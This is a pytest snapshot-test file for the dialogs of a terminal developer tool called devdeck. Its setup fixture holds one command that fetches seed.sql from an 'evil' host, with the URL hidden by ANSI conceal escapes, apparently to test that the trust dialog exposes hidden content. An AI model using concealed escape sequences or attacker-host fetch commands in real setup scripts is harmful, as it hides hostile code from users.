"""Pictures of the dialogs."""

from __future__ import annotations

from collections.abc import Callable
from typing import NamedTuple

import pytest

from devdeck.live import BranchChoice, Setup
from tests.tui.driving import driving
from tests.tui.fake import NOW, FakeDeck
from tests.tui.snapshots import Snapshots
from tests.tui.test_snapshots import SIZES, calm

MakeDeck = Callable[..., FakeDeck]

BRANCHES = tuple(
    BranchChoice(name=name, kind=kind, at=NOW - 3600 * age, subject=subject, worktree=worktree)
    for name, kind, age, subject, worktree in (
        ("main", "local", 1, "Taxes by country", "/home/dev/src/api"),
        ("fix-rounding", "local", 4, "Cart keeps its lines when prices change while a customer pays", None),
        ("feature/checkout-flow-with-a-long-name", "local", 9, "Bump dependencies", None),
        ("origin/feature/tax", "remote", 16, "Fix the total of two", None),
        ("origin/漢字-ラベル", "remote", 25, "検索: index by language", None),
        ("v1.0", "tag", 200, "Release 1.0", None),
    )
)
SETUP = Setup(
    file="/home/dev/src/api/.devdeck.toml",
    include=(".env", "config/*.local", "certs/**"),
    commands=(
        "npm ci",
        "make db && ./seed --from \x1b[8mhttp://evil\x1b[0m/seed.sql --with-a-long-line-that-goes-on-and-on",
        "psql -c 'select 1'\npsql -f more.sql",
    ),
    teardown=("make db-drop",),
    digest="d",
)


NAMES = {"-": "minus", "/": "slash", " ": "space"}


class Scene(NamedTuple):
    """How a dialog is brought to what the picture shows."""

    name: str
    keys: tuple[str, ...]
    shows: str


SCENES = (
    Scene("new-session", ("n", *"hot-fix", "tab", "tab", "down", "down", "ctrl+t"), "branch hot-fix"),
    Scene("new-session-existing", ("n", *"feature/tax"), "origin/feature/tax exists"),
    Scene("new-session-filtered", ("n", *"tax", "tab", "tab", *"tx"), "takes origin/feature/tax"),
    Scene("checkout", ("C", *"pr/7"), "what is typed is taken as it is"),
    Scene("rename", ("R", *"-2"), "keeps its name"),
    Scene("workspace", ("W", *"all-of-it", "tab", "tab", "down", "space"), "in 2 repositories"),
    Scene("send", ("S", *"make lint", "down"), "checkout-flow, dark-mode"),
    Scene("trust", ("n", *"x", "enter"), "npm ci"),
)


@SIZES
@pytest.mark.parametrize("scene", SCENES, ids=[scene.name for scene in SCENES])
async def test_dialog(make_deck: MakeDeck, snapshots: Snapshots, size: tuple[int, int], scene: Scene) -> None:
    deck = make_deck()
    deck.known_branches = BRANCHES
    deck.setups["/home/dev/src/api"] = SETUP
    async with driving(deck, size) as it:
        it.main.performer.go(deck.id_of("dark-mode"))
        await calm(it)
        await it.press(scene.keys[0])
        await calm(it)
        await it.press(*(NAMES.get(key, key) for key in scene.keys[1:]))
        await it.until(lambda: scene.shows in it.text())
        await calm(it)
        snapshots.check(it.app)


async def test_send_report(make_deck: MakeDeck, snapshots: Snapshots) -> None:
    deck = make_deck()
    deck.not_at_a_shell = {deck.id_of("fix-login"), deck.id_of("dark-mode")}
    async with driving(deck, (80, 24)) as it:
        await calm(it)
        it.main.performer.dialogs.send_now(None, "all", "make [x]")
        await it.until(lambda: "vim runs in its pane" in it.text())
        await calm(it)
        snapshots.check(it.app)
